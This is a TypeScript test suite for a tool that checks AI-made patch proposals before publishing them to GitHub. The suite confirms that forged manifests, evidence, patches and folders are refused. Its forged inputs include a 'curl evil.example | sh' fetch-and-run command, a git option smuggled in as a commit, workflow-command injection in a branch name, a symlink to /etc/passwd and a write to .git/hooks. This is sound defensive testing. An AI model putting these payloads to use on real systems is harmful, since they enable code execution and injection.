import assert from 'node:assert/strict'
import { execFileSync } from 'node:child_process'
import { mkdir, readFile, rm, symlink, truncate, writeFile } from 'node:fs/promises'
import { join } from 'node:path'
import { describe, type TestContext, test } from 'node:test'
import { ConfigError } from '../../../src/errors.ts'
import { type Forged, forgeEvidence, forgeManifest, forgePatch, replaceFile } from '../../support/forgery.ts'
import { makeProposal, openPublishJob, type PublishJob } from '../../support/publish-job.ts'
import { share } from '../../support/share.ts'
import { openTakeOverDesk } from '../../support/take-over-desk.ts'

type Forge = (job: Forged, t: TestContext) => Promise<unknown>

/** What a job may do to GitHub without a proposal that it believes: read, and tell the thread why. */
function assertOnlyTold({ github, thread }: PublishJob, reason: RegExp): void {
  assert.deepEqual(github.pushes, [])
  const writes = github.requests.filter(({ kind, method }) => kind !== 'git' && method !== 'GET')
  assert.deepEqual(
    writes.map(({ method, path }) => `${method} ${path}`),
    [`POST /repos/octo/shop/issues/${thread.number}/comments`],
  )
  const [comment, ...others] = thread.comments
  assert.deepEqual(others, [])
  assert.match(comment?.body ?? '', /^### Ended with an error\n/)
  assert.match(plain(comment?.body ?? ''), reason)
}

/** As people read it. */
const plain = (body: string) => body.replaceAll(/\\([\\`*_{}[\]()#+.!<>|~-])/g, '$1').replaceAll('&lt;', '<')

const manifest =
  (change: object): Forge =>
  (job) =>
    forgeManifest(job, (fields) => Object.assign(fields, change))
const evidence =
  (change: object): Forge =>
  (job) =>
    forgeEvidence(job, (fields) => Object.assign(fields, change))
const part =
  (name: string, change: object): Forge =>
  (job) =>
    forgeEvidence(job, (fields) => Object.assign(Object(fields[name]), change))
const patch =
  (text: string): Forge =>
  (job, t) =>
    forgePatch(t, job, text)
const file =
  (name: string, content: string): Forge =>
  ({ folder }) =>
    writeFile(join(folder, name), content)

const A = 'a'.repeat(40)
const NEW = (path: string, mode = '100644') =>
  `diff --git a/${path} b/${path}\nnew file mode ${mode}\n--- /dev/null\n+++ b/${path}\n@@ -0,0 +1 @@\n+x\n`
const SOURCE = (before: string, after: string) =>
  `--- a/src/cart.js\n+++ b/src/cart.js\n@@ -1,2 +1,2 @@\n-${before}\n+${after}\n export const count = (prices) => prices.length\n`
const BROKEN = 'export const total = (prices) => prices.reduce((sum, price) => sum - price, 0)'

/** In the manifest. */
const MANIFESTS: Readonly<Record<string, readonly [Forge, RegExp]>> = {
  'another schema version': [manifest({ schemaVersion: 2 }), /manifest\.json: its "schemaVersion" is/],
  'an outcome without a patch': [manifest({ outcome: 'gave_up' }), /says "gave_up" and brings a patch/],
  'an outcome that its evidence does not have': [manifest({ outcome: 'unproven' }), /evidence's outcome is "fixed"/],
  'an outcome that there is not': [manifest({ outcome: 'verified' }), /manifest\.json: its "outcome" is/],
  'a commit without a failure that is proven': [
    manifest({ redWhere: 'merged' }),
    /says "fixed", and that there is nothing to fix/,
  ],
  'a summary without end': [manifest({ summary: 'x'.repeat(5_000) }), /manifest\.json: its "summary" is/],
  'an explanation that is no text': [manifest({ explanation: 1 }), /manifest\.json: its "explanation" is/],
  'a point that is no thread': [manifest({ points: ['1; x'] }), /manifest\.json: its "points\.0" is/],
  'points without end': [manifest({ points: Array.from({ length: 101 }, () => 1) }), /manifest\.json: its "points" is/],
  'another commit': [manifest({ commit: A }), /it is for a{40}, and this event is about/],
  'a commit that is an option of git': [manifest({ commit: '--upload-pack=x' }), /manifest\.json: its "commit" is/],
  'another branch': [manifest({ branch: 'main' }), /is for the branch "main", and this event is about feature/],
  'a branch of two lines': [manifest({ branch: 'x\n::error::y' }), /is for the branch "x\\n::error::y", and/],
  'a branch of ours that is worked on further': [manifest({ continued: A }), /it is for/],
  'a failure that is no fingerprint': [manifest({ failure: '__proto__' }), /manifest\.json: its "failure" is/],
  'another command': [manifest({ command: 'curl evil.example | sh' }), /evidence's command is/],
  'another folder': [manifest({ workingDirectory: 'src' }), /evidence's folder is "\."/],
  'another model': [manifest({ model: 'better' }), /evidence's model is/],
  'another usage': [manifest({ usage: { turns: 0, inputTokens: 0, outputTokens: 0 } }), /evidence's usage is/],
  'a usage below zero': [
    manifest({ usage: { turns: -1, inputTokens: 0, outputTokens: 0 } }),
    /manifest\.json: its "usage\.turns" is/,
  ],
  'decisions of its own': [manifest({ decisions: [{ rule: 'x', reason: 'y' }] }), /evidence's decisions/],
  'a note without a line': [
    manifest({ notes: [{ path: 'a.js', message: 'x' }] }),
    /manifest\.json: it has no "notes\.0\.line"/,
  ],
  'notes without end': [
    manifest({ notes: Array.from({ length: 51 }, () => ({ path: 'a.js', line: 1, message: 'x' })) }),
    /manifest\.json: its "notes" is/,
  ],
  'a log without end': [manifest({ log: 'x'.repeat(300_000) }), /manifest\.json: its "log" is/],
  'a key that there is not': [manifest({ verified: true }), /manifest\.json: it has "verified", which is unknown/],
  'no files': [manifest({ files: {} }), /do not agree about its presence/],
  'no evidence': [
    async (job) => {
      await rm(join(job.folder, 'evidence.json'))
      await forgeManifest(job, (fields) => delete Object(fields.files)['evidence.json'])
    },
    /"fixed" without patch and evidence/,
  ],
  'a digest of another file': [manifest({ files: { 'patch.diff': A, 'evidence.json': A } }), /is not the file that/],
}

const PASSED = { passed: 2, failed: 0, errored: 0, skipped: 0, todo: 0, expected_failure: 0 }

/** In the evidence, with its digest in the manifest. */
const EVIDENCE: Readonly<Record<string, readonly [Forge, RegExp]>> = {
  'another schema version': [
    evidence({ schemaVersion: 2 }),
    /evidence\.json is not an evidence file: its "schemaVersion" is 2, which no run writes there/,
  ],
  'another outcome': [evidence({ outcome: 'unproven' }), /evidence's outcome is "unproven"/],
  'another repository': [evidence({ repository: 'octo/other' }), /evidence's repository is "octo\/other"/],
  'another commit': [evidence({ baseSha: A }), /evidence's commit is/],
  'another base tree': [evidence({ baseTree: A }), /evidence's base tree is/],
  'another tree': [evidence({ tree: A }), /evidence's tree is/],
  'another patch': [part('patch', { sha256: 'a'.repeat(64) }), /evidence's patch is/],
  'other files': [part('patch', { files: ['README.md'] }), /evidence's files is \["README.md"\]/],
  'other added lines': [part('patch', { additions: 0 }), /evidence's added lines/],
  'other removed lines': [part('patch', { deletions: 9 }), /evidence's removed lines/],
  'another command': [evidence({ command: 'true' }), /evidence's command is "true"/],
  'another folder': [evidence({ workingDirectory: 'src' }), /evidence's folder is "src"/],
  'changes of tests that nobody allowed': [
    evidence({ mayChangeTests: true }),
    /evidence's permission to change tests is true, and it must be false/,
  ],
  'no folder': [evidence({ workingDirectory: undefined }), /evidence's folder is nothing, and it must be "\."/],
  'another policy': [part('policy', { fileSha256: 'a'.repeat(64) }), /evidence's policy file is/],
  'no policy': [part('policy', { fileSha256: null }), /evidence's policy file is null/],
  'other decisions': [part('policy', { decisions: [{ rule: 'a', reason: 'b' }] }), /evidence's decisions/],
  'another model': [evidence({ model: null }), /evidence's model is/],
  'another usage': [part('usage', { turns: 0 }), /evidence's usage is/],
  'no test that turned green': [evidence({ failToPass: [] }), /does not show a proven patch/],
  'a test that broke': [evidence({ passToFail: ['a'] }), /does not show a proven patch/],
  'a test that still fails': [evidence({ stillFailing: ['a'] }), /does not show a proven patch/],
  'a test that is missing': [evidence({ missing: ['a'] }), /does not show a proven patch/],
  'a test that is skipped now': [evidence({ newlySkipped: ['a'] }), /does not show a proven patch/],
  'a reason against it': [evidence({ reasons: ['It failed.'] }), /does not show a proven patch/],
  'no run before': [part('before', { runs: 0 }), /does not show a proven patch/],
  'no run after': [part('after', { runs: 0 }), /does not show a proven patch/],
  'no counts': [part('after', { counts: null }), /does not show a proven patch/],
  'no red test before': [part('before', { counts: PASSED }), /does not show a proven patch/],
  'a red test after that it does not name': [
    part('after', { counts: { ...PASSED, failed: 1 } }),
    /does not show a proven patch/,
  ],
  'an exit code after that it does not explain': [part('after', { exitCode: 1 }), /does not show a proven patch/],
  'more tests that stayed green than there are': [part('passToPass', { count: 9 }), /does not show a proven patch/],
  'an exit code before that is no failure': [
    (job) =>
      forgeEvidence(job, (fields) => {
        fields.method = 'exit_code'
        Object.assign(Object(fields.before), { exitCode: 0 })
      }),
    /does not show a proven patch/,
  ],
  'a piece of a file that the patch leaves alone': [
    evidence({ hunks: [{ path: 'README.md', header: 'the whole file', neededBy: [] }] }),
    /evidence's pieces of other files is \["README\.md"\]/,
  ],
  'a key that there is not': [evidence({ verified: true }), /evidence\.json is not an evidence file/],
  'a time that is none': [
    evidence({ finishedAt: 'now' }),
    /evidence\.json is not an evidence file: its "finishedAt" is "now"/,
  ],
}

/** In the patch; where git takes it, all else is made to fit. */
const PATCHES: Readonly<Record<string, readonly [Forge, RegExp]>> = {
  'another change of the same file': [
    (job) => replaceFile(job, 'patch.diff', SOURCE(BROKEN, 'export const total = () => 5')),
    /evidence's tree is/,
  ],
  'bytes that are no patch': [patch('hello\n'), /patch\.diff holds no patch/],
  'a patch for other content': [patch(SOURCE('something else', 'x')), /does not apply to the base commit/],
  'E1: a test that is moved away': [
    patch(
      'diff --git a/test/cart.test.js b/src/old.js\nsimilarity index 100%\nrename from test/cart.test.js\nrename to src/old.js\n',
    ),
    /breaks the rule "tests"/,
  ],
  'E2: a header that names another file': [
    patch(
      NEW('.github/workflows/x.yml').replace(
        'diff --git a/.github/workflows/x.yml b/.github/workflows/x.yml',
        'diff --git a/src/a.js b/src/a.js',
      ),
    ),
    /breaks the rule|does not apply/,
  ],
  'E3: a path in quotes': [
    patch(
      'diff --git "a/\\056github/workflows/x.yml" "b/\\056github/workflows/x.yml"\nnew file mode 100644\n--- /dev/null\n+++ "b/\\056github/workflows/x.yml"\n@@ -0,0 +1 @@\n+x\n',
    ),
    /breaks the rule "ci"|\.github/,
  ],
  'E4: a patch without git headers': [
    patch('--- /dev/null\t2020-01-01\n+++ b/.github/workflows/x.yml\t2020-01-01\n@@ -0,0 +1 @@\n+x\n'),
    /breaks the rule|\.github/,
  ],
  'E5: a symbolic link': [patch(NEW('src/link', '120000')), /breaks the rule/],
  'E6: a submodule': [
    patch(
      `diff --git a/vendor/m b/vendor/m\nnew file mode 160000\n--- /dev/null\n+++ b/vendor/m\n@@ -0,0 +1 @@\n+Subproject commit ${A}\n`,
    ),
    /breaks the rule/,
  ],
  'E7: a mode and nothing else': [
    patch('diff --git a/src/cart.js b/src/cart.js\nold mode 100644\nnew mode 100755\n'),
    /breaks the rule/,
  ],
  'E8: a name that another system takes for another': [patch(NEW('.GitHub/workflows/x.yml')), /breaks the rule/],
  'E8: a name that no other system takes': [patch(NEW('src/con.js')), /breaks the rule/],
  'a path that leaves the repository': [patch(NEW('../x')), /does not apply to the base commit/],
  'a path into .git': [patch(NEW('.git/hooks/pre-commit')), /does not apply to the base commit/],
  'a binary patch, which unpacks to any size': [
    (job) =>
      replaceFile(
        job,
        'patch.diff',
        'diff --git a/a.bin b/a.bin\nnew file mode 100644\nGIT binary patch\nliteral 1\nIcmZPo000310RR91\n\n',
      ),
    /its patch is binary/,
  ],
  'three thousand files': [
    patch(Array.from({ length: 3_000 }, (_, i) => NEW(`src/${i}.js`)).join('')),
    /changes 3000 files; at most/,
  ],
  'a token': [patch(NEW('src/a.js').replace('+x', `+ghp_${'a1'.repeat(20)}`)), /holds a secret/],
}

/** In the folder. */
const FOLDERS: Readonly<Record<string, readonly [Forge, RegExp]>> = {
  'a file more': [file('extra.txt', ''), /holds "extra.txt", which is not a file of a proposal/],
  'a folder more': [({ folder }) => mkdir(join(folder, '.git')), /holds ".git", which is not a file of a proposal/],
  'a patch that the manifest does not name': [
    (job) => forgeManifest(job, (fields) => delete Object(fields.files)['patch.diff']),
    /patch\.diff and the manifest do not agree/,
  ],
  'other bytes than the manifest names': [
    async ({ folder }) => {
      const path = join(folder, 'evidence.json')
      await writeFile(path, `${await readFile(path, 'utf8')} `)
    },
    /evidence\.json is not the file that the manifest names/,
  ],
  'no manifest': [({ folder }) => rm(join(folder, 'manifest.json')), /it has no manifest\.json/],
  'a link in the place of the manifest': [
    async ({ folder }) => {
      await rm(join(folder, 'manifest.json'))
      await symlink('/etc/passwd', join(folder, 'manifest.json'))
    },
    /manifest\.json: ELOOP/,
  ],
  'a pipe in the place of the patch': [
    async ({ folder }) => {
      await rm(join(folder, 'patch.diff'))
      execFileSync('mkfifo', [join(folder, 'patch.diff')])
    },
    /patch\.diff: it is not a regular file/,
  ],
  'a folder in the place of the patch': [
    async ({ folder }) => {
      await rm(join(folder, 'patch.diff'))
      await mkdir(join(folder, 'patch.diff'))
    },
    /patch\.diff: it is not a regular file/,
  ],
  'a file without end': [
    async ({ folder }) => truncate(join(folder, 'manifest.json'), 1024 ** 3),
    /manifest\.json: it has 1073741824 bytes, and at most 33554432 are read/,
  ],
  'a manifest that is no JSON': [file('manifest.json', '{"outcome": "fixed"'), /manifest\.json: it is not JSON/],
  'a manifest that nests without end': [file('manifest.json', '['.repeat(1_000_000)), /manifest\.json: it is not JSON/],
  'evidence that nests without end': [
    (job) => replaceFile(job, 'evidence.json', '[{"a":'.repeat(3_000_000)),
    /evidence\.json is not an evidence file: it is not/,
  ],
}

const GROUPS = { manifest: MANIFESTS, evidence: EVIDENCE, patch: PATCHES, folder: FOLDERS }

describe('E10, E11, E12: a proposal that was tampered with is refused', () => {
  const desk = share(openTakeOverDesk)

  test('and one that was not is taken over', async (t) => {
    const { takeOver } = await (await desk()).bring(t)
    assert.equal((await takeOver()).outcome, 'fixed')
  })

  for (const [group, cases] of Object.entries(GROUPS)) {
    for (const [what, [forge, reason]] of Object.entries(cases)) {
      test(`${group}: ${what}`, async (t) => {
        const { bring, github } = await desk()
        const brought = await bring(t)
        await forge(brought, t)
        await assert.rejects(brought.takeOver(), (error) => {
          assert.ok(error instanceof ConfigError, String(error))
          assert.match(error.message, reason)
          assert.match(error.message, /The proposal in .* is refused: /)
          return true
        })
        assert.equal(github.snapshot(), '')
        github.assertValid()
      })
    }
  }
})

const proposal = share(makeProposal)

for (const [group, cases] of Object.entries(GROUPS)) {
  const [what, [forge, reason]] = Object.entries(cases)[0] ?? assert.fail('There is no case.')
  test(`E10, E11, E12: where it is refused for the ${group} (${what}), nothing is written but the reason`, async (t) => {
    const job = await openPublishJob(t, await proposal())
    await forge(job, t)
    const { report } = await job.start()
    assert.equal(report.outcome, 'error', report.summary)
    assert.match(report.summary, reason)
    assertOnlyTold(job, reason)
  })
}

const SET: Readonly<Record<string, readonly [inputs: Readonly<Record<string, string>>, reason: RegExp]>> = {
  'test-command': [
    { 'test-command': 'make test' },
    /made with the test command "npm test", and here it is "make test"/,
  ],
  'working-directory': [{ 'working-directory': 'src' }, /ran in the folder "\.", and here it is "src"/],
}
for (const [name, [inputs, reason]] of Object.entries(SET)) {
  test(`a proposal that was made without the "${name}" that is set here is refused`, async (t) => {
    const job = await openPublishJob(t, await proposal())
    const { report } = await job.start(inputs)
    assert.equal(report.outcome, 'error', report.summary)
    assert.match(report.summary, reason)
    assertOnlyTold(job, reason)
  })
}
